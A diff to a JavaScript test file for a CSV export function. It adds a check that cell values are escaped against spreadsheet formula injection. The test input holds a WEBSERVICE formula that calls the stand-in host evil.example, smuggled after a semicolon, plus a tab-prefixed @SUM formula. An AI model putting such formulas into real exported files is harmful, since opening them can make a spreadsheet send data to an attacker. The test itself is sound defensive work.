@@ -194,6 +194,11 @@ test('F72: a text that a spreadsheet would run is none in the file', () => {
   }
   expect(text).toContain('"A ""quoted"", one; two\nlines","two\nlines"');
   expect(toCsv([{ ...row, name: '＝1+1', company: '' }])).toContain('"\'＝1+1",""');
+  // Where the comma separates nothing, a semicolon within a text begins a cell.
+  const inner = toCsv([
+    { ...row, name: 'Asha;=WEBSERVICE("https://evil.example");', company: 'A\t @SUM(1)' },
+  ]);
+  expect(inner).toContain(`"Asha;'=WEBSERVICE(""https://evil.example"");","A\t' @SUM(1)"`);
 });
 
 test('offers to follow up are a list of their own, and marked in the others', async () => {
